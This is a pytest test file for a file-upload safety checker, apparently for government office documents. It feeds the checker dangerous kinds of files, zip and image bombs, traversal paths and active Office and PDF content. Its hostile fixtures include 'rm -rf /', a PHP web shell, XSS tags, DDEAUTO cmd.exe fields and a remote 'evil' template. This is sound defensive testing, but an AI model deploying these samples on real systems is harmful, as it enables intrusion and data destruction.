import io
import struct
import zipfile
import zlib
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from luoshi.office.evidence.checks import Finding, worst
from luoshi.office.evidence.checks.archive import Limits, Unreadable, survey
from luoshi.office.evidence.checks.content import FileRules, check_file
from luoshi.office.evidence.checks.kinds import KINDS, encoding_of, sniff
from luoshi.office.papers import docx as paper_docx
from luoshi.office.papers import pdf as paper_pdf
from luoshi.office.papers import xlsx
from luoshi.office.papers.model import Paper, Paragraph, Signature
from tests.office.evidence.pictures import docx, jpeg, png, relations, scene, zipped

PAPER = Paper(title="通知", blocks=[Paragraph("正文"), Signature("某县", date(2023, 4, 3))])
PDF = paper_pdf.render(PAPER)
DOCX = paper_docx.render(PAPER)
JPEG = jpeg(scene(1))
WITH_ZIP = FileRules(allowed=frozenset(KINDS))


def workbook() -> bytes:
    out = io.BytesIO()
    xlsx.write(out, [xlsx.SheetOut("甲", [xlsx.Column("一")], [("1",)])])
    return out.getvalue()


def codes(findings: list[Finding]) -> dict[str, str]:
    return {finding.code: finding.level for finding in findings}


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("a.jpg", JPEG, "jpg"),
        ("a.png", png(scene(1)), "png"),
        ("a.pdf", PDF, "pdf"),
        ("a.docx", DOCX, "docx"),
        ("a.xlsx", workbook(), "xlsx"),
        ("a.txt", "各镇人民政府：".encode(), "txt"),
        ("a.txt", "各镇人民政府：请于六月底前报送。".encode("gb18030"), "txt"),
        ("a.csv", "姓名,人口\n甲,3\n乙,4\n".encode("utf-8-sig"), "csv"),
        ("a.txt", "甲".encode("utf-16"), "txt"),
    ],
)
def test_good_files_are_taken_and_their_kind_named(name: str, data: bytes, kind: str) -> None:
    findings = check_file(name, data)
    assert worst(findings) == "ok", findings
    assert findings[0].facts["kind"] == kind


def test_a_file_on_disk_gives_the_findings_of_its_bytes(tmp_path: Path) -> None:
    for name, data in (("a.pdf", PDF), ("a.docx", DOCX), ("a.jpg", JPEG), ("b.jpg", JPEG[:5000])):
        path = tmp_path / name
        path.write_bytes(data)
        assert check_file(name, path) == check_file(name, data)


def test_a_pdf_named_jpg_is_told_with_the_right_name() -> None:
    finding = next(f for f in check_file("回执.jpg", PDF) if f.code == "name_differs")
    assert finding.level == "warn"
    assert finding.remedy and "回执.pdf" in finding.remedy.zh and "回执.pdf" in finding.remedy.en


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"MZ\x90\x00" + b"\0" * 200, "program"),
        (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "program"),
        (b"#!/bin/sh\nrm -rf /\n", "script"),
        (b"<?php system($_GET['c']);", "script"),
        (b"  <!DOCTYPE html><html><script>alert(1)</script>", "html"),
        (b"\xef\xbb\xbf<HTML><body onload=x>", "html"),
        (b"<!-- c --><script>alert(1)</script>", "html"),
        (b"<table><tr><td>1</td></tr></table>", "html"),
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "svg"),
        ("<svg onload=alert(1)>".encode("utf-16"), "svg"),
        (b"{\\rtf1\\ansi{\\object\\objemb}}", "rtf"),
        (b"\x4c\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 100, "shortcut"),
    ],
)
def test_what_can_run_is_refused_under_any_name(data: bytes, kind: str) -> None:
    for name in ("照片.jpg", "表.xlsx", "说明.txt"):
        finding = check_file(name, data)[0]
        assert (finding.code, finding.level, finding.facts["kind"]) == ("kind_dangerous", "refuse", kind)


@pytest.mark.parametrize(("data", "kind"), [(b"GIF89a" + b"\0" * 50, "gif"), (zipped({"a.txt": "甲"}), "zip"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "ole"), (b"\0\0\0\x18ftypheic" + b"\0" * 50, "heic")])  # fmt: skip
def test_harmless_kinds_that_are_not_taken_say_what_to_convert_to(data: bytes, kind: str) -> None:
    finding = check_file("a", data)[0]
    assert (finding.code, finding.facts["kind"]) == ("kind_not_allowed", kind)
    assert finding.remedy and ".pdf" in finding.remedy.zh


def test_empty_large_and_unknown_files_are_refused_in_words() -> None:
    assert codes(check_file("a.jpg", b"")) == {"empty": "refuse"}
    assert codes(check_file("a.jpg", JPEG, FileRules(max_bytes=100))) == {"too_big": "refuse"}
    assert codes(check_file("a.txt", bytes(range(256)) * 4)) == {"kind_unknown": "refuse"}


def test_text_whose_encoding_breaks_is_refused() -> None:
    assert (
        codes(check_file("a.txt", "各镇人民政府".encode() + b"\xff\xfe" + "甲乙丙丁".encode("gb18030")))["kind_unknown"]
        == "refuse"
    )
    late = b"abc\n" * 20_000 + b"\xff\xff\xff"
    assert codes(check_file("a.txt", late))["encoding"] == "refuse"


@pytest.mark.parametrize("back", range(4))
def test_a_letter_cut_by_the_reading_window_does_not_break_the_encoding(back: int) -> None:
    text = ("a" * back + "固阳县" * 40_000).encode()
    assert sniff(text) is KINDS["txt"]
    assert encoding_of("固阳".encode("gb18030")) == "gb18030"
    assert encoding_of(b"\x80\x81\xfe\xfe\x80") is None


# -- archives


def test_bombs_are_refused_by_ratio_size_count_and_nesting() -> None:
    zeros = b"\0" * (40 << 20)
    assert codes(check_file("a.zip", zipped({"a": zeros}), WITH_ZIP))["zip_bomb"] == "refuse"
    rules = FileRules(allowed=frozenset(KINDS), limits=Limits(uncompressed=1000))
    assert codes(check_file("a.zip", zipped({"a": b"0123456789" * 200}), rules))["zip_bomb"] == "refuse"
    many = zipped({f"{n}.txt": "" for n in range(2_001)})
    assert codes(check_file("a.zip", many, WITH_ZIP))["zip_bomb"] == "refuse"
    nested = zipped({"b.zip": zipped({"c.zip": zipped({"d": b"d"})})})
    assert codes(check_file("a.zip", nested, WITH_ZIP))["zip_nested"] == "warn"
    assert codes(check_file("a.docx", docx(word__x=zeros)))["zip_bomb"] == "refuse"


def test_a_bomb_that_declares_a_small_size_is_counted_all_the_same() -> None:
    data = bytearray(zipped({"a": b"\0" * (40 << 20)}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(mark)
        data[at + offset : at + offset + 4] = (10).to_bytes(4, "little")
        data[at + offset - 8 : at + offset - 4] = zlib.crc32(b"\0" * 10).to_bytes(4, "little")
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as fooled:
        assert len(fooled.read("a")) == 10  # Python's own reader believes the claim
    with pytest.raises(Unreadable) as caught:
        survey(bytes(data))
    assert caught.value.code == "ratio"


@pytest.mark.parametrize("name", ["../a.txt", "/etc/passwd", "a/../../b", "C:\\a.txt", "..\\a"])
def test_names_that_leave_the_folder_are_refused(name: str) -> None:
    assert codes(check_file("a.zip", zipped({name: "x"}), WITH_ZIP)) == {"kind": "ok", "zip_path": "refuse"}


def test_cut_off_and_locked_archives_are_refused() -> None:
    whole = zipped({"a.txt": "甲" * 5_000, "b.txt": "乙"})
    assert worst(check_file("a.zip", whole[:-30], WITH_ZIP)) == "refuse"
    broken = bytearray(whole)
    broken[45:60] = b"\xff" * 15
    assert worst(check_file("a.zip", bytes(broken), WITH_ZIP)) == "refuse"
    locked = bytearray(whole)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.find(mark) + offset] |= 1
    assert codes(check_file("a.zip", bytes(locked), WITH_ZIP))["encrypted"] == "refuse"


@settings(max_examples=60, deadline=None)
@given(st.integers(0, 10**6), st.binary(min_size=1, max_size=8))
def test_a_damaged_docx_never_crashes_the_check(at: int, junk: bytes) -> None:
    data = bytearray(DOCX)
    at %= len(data)
    data[at : at + len(junk)] = junk
    assert all(finding.words.zh and finding.words.en for finding in check_file("a.docx", bytes(data)))


# -- documents


def test_a_docx_with_macros_is_refused_whatever_it_is_called() -> None:
    for name in ("a.docx", "a.docm"):
        assert (
            codes(check_file(name, docx(word__vbaProject_bin="x").replace(b"vbaProject_bin", b"vbaProject.bin")))[
                "office_macro"
            ]
            == "refuse"
        )


def test_embedded_objects_and_outside_templates_are_told() -> None:
    rows = relations(
        '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
    )
    data = zipped(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<d/>",
            "word/embeddings/oleObject1.bin": "x",
            "word/_rels/settings.xml.rels": rows,
        }
    )
    found = check_file("a.docx", data)
    assert codes(found)["office_object"] == "warn"
    outside = next(f for f in found if f.code == "office_external")
    assert outside.level == "warn" and outside.facts["targets"] == ["http://evil/t.dotm"]


def test_a_plain_hyperlink_is_no_outside_content() -> None:
    rows = relations(
        '<Relationship Id="r1" Type="http://x/hyperlink" Target="http://example.org" TargetMode="External"/>'
    )
    data = zipped(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<d/>", "word/_rels/document.xml.rels": rows}
    )
    assert worst(check_file("a.docx", data)) == "ok"


def test_an_xlsx_that_links_to_other_files_or_programs_is_told() -> None:
    base = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"}
    link = relations(
        '<Relationship Id="r1" Type="http://x/externalLinkPath" Target="file:///c:/b.xlsx" TargetMode="External"/>'
    )
    assert (
        codes(check_file("a.xlsx", zipped(base | {"xl/externalLinks/_rels/externalLink1.xml.rels": link})))[
            "office_external"
        ]
        == "warn"
    )
    dde = {
        "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    }
    assert codes(check_file("a.xlsx", zipped(base | dde)))["office_external"] == "warn"


@pytest.mark.parametrize(
    "body",
    [
        "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>",
        "<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>",
        '<w:fldSimple w:instr=" DDE excel file"/>',
        "<w:instrText> INCLUDETEXT http://x/a.docx</w:instrText>",
    ],
)
def test_fields_that_run_or_load_are_told_even_when_split(body: str) -> None:
    data = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": f"<w:d>{body}</w:d>"})
    assert codes(check_file("a.docx", data))["office_external"] == "warn"


def test_a_document_that_only_speaks_of_such_fields_is_left_alone() -> None:
    body = "<w:t>DDE DDEAUTO INCLUDETEXT x</w:t><w:instrText> PAGE </w:instrText>"
    data = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": f"<w:d>{body}</w:d>"})
    assert worst(check_file("a.docx", data)) == "ok"


def test_content_before_an_archive_is_told() -> None:
    hidden = zipped({"a.txt": "x"}, prefix=b"PK\x03\x04 something else")
    assert codes(check_file("a.zip", hidden, WITH_ZIP))["hidden_data"] == "warn"


def test_entities_in_a_relations_part_are_refused() -> None:
    rows = '<!DOCTYPE r [<!ENTITY a "b">]>' + relations()
    data = zipped(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<d/>", "word/_rels/document.xml.rels": rows}
    )
    assert codes(check_file("a.docx", data))["markup"] == "refuse"


def scripted(writer: PdfWriter) -> None:
    """Let the pdf run a script when it is opened."""
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def test_pdf_script_attachments_passwords_and_damage() -> None:
    def written(change: object) -> bytes:
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
        change(writer)  # type: ignore[operator]
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    assert next(f for f in check_file("a.pdf", PDF) if f.code == "pdf_pages").facts["pages"] == 1
    assert codes(check_file("a.pdf", written(scripted)))["pdf_active"] == "warn"
    assert codes(check_file("a.pdf", written(lambda w: w.add_attachment("a.exe", b"MZ"))))["pdf_attachment"] == "warn"
    assert (
        codes(check_file("a.pdf", written(lambda w: w.encrypt("secret", algorithm="RC4-128"))))["pdf_encrypted"]
        == "refuse"
    )
    assert codes(check_file("a.pdf", PDF[:40]))["broken"] == "refuse"


# -- pictures


def header_only(width: int, height: int) -> bytes:
    """A PNG that claims a size and holds almost nothing."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    body = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + chunk(
        b"IDAT", zlib.compress(b"\0" * 100)
    )
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")


def test_an_image_bomb_is_refused_from_its_header() -> None:
    finding = next(f for f in check_file("a.png", header_only(50_000, 50_000)) if f.code == "image_bomb")
    assert finding.level == "refuse" and finding.facts == {"width": 50_000, "height": 50_000}
    assert codes(check_file("a.png", header_only(0, 5)))["broken"] == "refuse"
    assert codes(check_file("a.png", header_only(100, 100)))["broken"] == "refuse"


@pytest.mark.parametrize("share", [0.3, 0.6, 0.95, 0.999])
def test_cut_off_pictures_are_refused(share: float) -> None:
    for name, data in (("a.jpg", JPEG), ("a.png", png(scene(2)))):
        assert worst(check_file(name, data[: int(len(data) * share)])) == "refuse"


def test_a_cut_off_jpeg_with_a_forged_end_shows_an_empty_lower_part() -> None:
    found = codes(check_file("a.jpg", JPEG[: len(JPEG) // 2] + b"\xff\xd9"))
    assert found["lower_part_empty"] == "ask"
    assert "lower_part_empty" not in codes(check_file("a.jpg", JPEG))


def test_a_picture_that_is_also_an_archive_or_carries_one_is_refused() -> None:
    hidden = zipped({"a.exe": b"MZ"}, prefix=JPEG)
    assert codes(check_file("a.jpg", hidden))["polyglot"] == "refuse"
    assert codes(check_file("a.jpg", hidden[:-10]))["polyglot"] == "refuse"
    assert codes(check_file("a.pdf", zipped({"a.exe": b"MZ"}, prefix=PDF)))["polyglot"] == "refuse"
    assert codes(check_file("a.jpg", JPEG + b"<script>alert(1)</script>"))["polyglot"] == "refuse"
    assert codes(check_file("a.jpg", JPEG + b"some more bytes"))["hidden_data"] == "warn"


def test_a_second_picture_or_film_behind_the_first_is_what_phones_write() -> None:
    assert worst(check_file("a.jpg", JPEG + jpeg(scene(3)))) == "ok"
    assert worst(check_file("a.jpg", JPEG + b"\0\0\0\x18ftypmp42" + b"\0" * 100)) == "ok"


def test_a_picture_of_one_colour_is_asked_about() -> None:
    from PIL import Image

    assert codes(check_file("a.jpg", jpeg(Image.new("RGB", (300, 300), (9, 9, 9)))))["blank"] == "ask"


@settings(max_examples=60, deadline=None)
@given(st.integers(0, 10**6), st.binary(min_size=1, max_size=8))
def test_a_damaged_jpeg_never_crashes_the_check(at: int, junk: bytes) -> None:
    data = bytearray(JPEG)
    at %= len(data)
    data[at : at + len(junk)] = junk
    check_file("a.jpg", bytes(data))


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200))
def test_no_bytes_crash_the_check(data: bytes) -> None:
    for name in ("a.jpg", "a.zip", ""):
        findings = check_file(name, data, WITH_ZIP)
        assert findings and all(f.as_json()["words"]["zh"] and f.as_json()["words"]["en"] for f in findings)


@pytest.mark.parametrize(
    "magic", [b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x10\0\0\0WEBP", b"%PDF-1.7\n", b"PK\x03\x04", b"PK\x05\x06"]
)
@settings(max_examples=30, deadline=None)
@given(st.binary(max_size=120))
def test_no_bytes_behind_a_known_start_crash_the_check(magic: bytes, rest: bytes) -> None:
    check_file("a", magic + rest, WITH_ZIP)
